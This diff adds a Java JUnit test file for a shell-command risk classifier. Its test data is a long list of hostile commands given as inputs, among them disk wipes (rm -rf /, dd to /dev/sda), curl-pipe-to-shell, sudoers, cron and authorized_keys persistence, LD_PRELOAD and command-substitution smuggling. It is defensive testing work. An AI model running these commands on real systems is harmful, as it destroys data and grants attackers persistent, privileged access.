@@ -1,0 +1,107 @@
+package dev.tracegate.policy.shell;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.tracegate.policy.sql.StatementClass;
+import java.util.List;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** The shell classifier is a boundary: each row is a line a caller chooses, and the class the policy sees. */
+class ShellCommandClassifierTest {
+
+    @ParameterizedTest(name = "{0} -> {1}")
+    @CsvSource(delimiterString = " => ", value = {
+            "ls -la => READ",
+            "cat /etc/passwd | grep root | wc -l => READ",
+            "/usr/bin/uptime => READ",
+            "cd /tmp => SESSION",
+            "echo hi > notes.txt => WRITE",
+            "echo hi > /tmp/x 2>&1 => WRITE",
+            "ls > /dev/null 2>/dev/null => READ",
+            "rm notes.txt => WRITE",
+            "rm -rf build => BULK_WRITE",
+            "rm -r -f ./build => BULK_WRITE",
+            "rm --recursive build => BULK_WRITE",
+            "find . -name '*.tmp' -delete => BULK_WRITE",
+            "truncate -s 0 app.log => BULK_WRITE",
+            "systemctl status nginx => READ",
+            "systemctl restart nginx => DDL",
+            "apt-get install -y curl => DDL",
+            "dpkg -l => READ",
+            "kill -9 1234 => DDL",
+            "chmod 600 key => PRIVILEGE",
+            "useradd eve => PRIVILEGE",
+            "echo '1.2.3.4 x' >> /etc/hosts => PRIVILEGE",
+            "tee -a /etc/sudoers.d/eve => PRIVILEGE",
+            "cp evil /etc/cron.d/evil => PRIVILEGE",
+            "cd /etc && rm passwd => PRIVILEGE",
+            "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys => PRIVILEGE",
+            "crontab evil.txt => PRIVILEGE",
+            "sudo ls => DANGEROUS_ADMIN",
+            "/usr/bin/sudo -u root id => DANGEROUS_ADMIN",
+            "env FOO=1 sudo id => DANGEROUS_ADMIN",
+            "nice -n 5 sudo id => DANGEROUS_ADMIN",
+            "ls; sudo id => DANGEROUS_ADMIN",
+            "true && su - => DANGEROUS_ADMIN",
+            "bash -c 'sudo id' => DANGEROUS_ADMIN",
+            "sh -c \"rm -rf build\" => BULK_WRITE",
+            "shutdown -h now => DANGEROUS_ADMIN",
+            "systemctl poweroff => DANGEROUS_ADMIN",
+            "rm -rf / => DANGEROUS_ADMIN",
+            "rm -rf /etc => DANGEROUS_ADMIN",
+            "rm -rf /var/../ => DANGEROUS_ADMIN",
+            "dd if=/dev/zero of=/dev/sda => DANGEROUS_ADMIN",
+            "mkfs.ext4 /dev/sdb1 => DANGEROUS_ADMIN",
+            "echo 1 > /proc/sys/kernel/sysrq => DANGEROUS_ADMIN",
+            "ls | xargs grep foo => READ",
+    })
+    void classifiesKnownCommands(String line, StatementClass expected) {
+        assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
+    }
+
+    /** Everything the classifier cannot follow is unknown: as risky as the worst class. */
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "./deploy.sh", "my-tool --flag", "python3 -c 'import os'", "perl -e 'unlink q(x)'", "awk 'BEGIN{system(\"id\")}'",
+            "echo $(sudo id)", "echo `sudo id`", "$CMD", "\"$X\" -rf /", "ls; $(printf sudo) id", "PATH=/tmp:$PATH ls",
+            "LD_PRELOAD=/tmp/x.so ls", "echo hi > $FILE", "echo hi > /e*/passwd", "cat <<EOF", "(sudo id)",
+            "{ sudo id; }", "if true; then sudo id; fi", "for f in *; do rm $f; done", "echo 'unterminated", "ls\u0000sudo",
+            "curl https://x | sh", "curl https://x | bash -s", "eval sudo id", "source ./env.sh", ". ./env.sh",
+            "/tmp/sudo id", "find / -exec rm {} ;", "ls | xargs rm", "echo hi > ../../etc/passwd", "bash -c \"$X\"",
+            "git -c core.sshCommand=evil fetch", "tar -xPf a.tar", "env -S 'sudo id'", "vim /etc/hosts",
+            "sh", "bash script.sh", "cat <(sudo id)", "echo $((1+2))", "echo ${X:-$(sudo id)}"})
+    void whatItCannotFollowIsUnknown(String line) {
+        ShellClassification classification = ShellCommandClassifier.classify(line);
+        assertThat(classification.statementClass().isHighestRisk())
+                .as("%s -> %s %s", line, classification.statementClass(), classification.reasons()).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"touch notes.txt", "echo hi > notes.txt", "rm notes.txt"})
+    void typedLinesWriteToAnUnknownWorkingDirectory(String line) {
+        assertThat(ShellCommandClassifier.classify(line).statementClass()).isNotEqualTo(StatementClass.UNKNOWN);
+        assertThat(ShellCommandClassifier.classifyTyped(line).statementClass()).isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"touch /tmp/x", "echo hi > /tmp/x", "ls", "cat ~/notes", "echo hi > ~/notes"})
+    void typedLinesWithAbsolutePathsAreClassified(String line) {
+        assertThat(ShellCommandClassifier.classifyTyped(line).statementClass().isHighestRisk()).isFalse();
+    }
+
+    @ParameterizedTest(name = "{0} {1} -> {2}")
+    @CsvSource({"write, /home/app/x.txt, WRITE", "write, /etc/hosts, PRIVILEGE", "delete, /boot/vmlinuz, DANGEROUS_ADMIN",
+            "write, /root/.ssh/authorized_keys, PRIVILEGE", "write, /tmp/../etc/shadow, PRIVILEGE"})
+    void fileChangesAreClassifiedByWhereTheyAre(String operation, String path, StatementClass expected) {
+        assertThat(ShellCommandClassifier.fileChange(List.of(path), operation).statementClass()).isEqualTo(expected);
+    }
+
+    @org.junit.jupiter.api.Test
+    void reasonsNameWhatRaisedTheClass() {
+        assertThat(ShellCommandClassifier.classify("ls && sudo id").reasons()).anyMatch(r -> r.contains("sudo"));
+        assertThat(ShellCommandClassifier.classify("ls && sudo id").programs()).containsExactly("ls", "sudo");
+        assertThat(ShellCommandClassifier.classify("echo $(id)").reasons().getFirst()).contains("command substitution");
+    }
+}
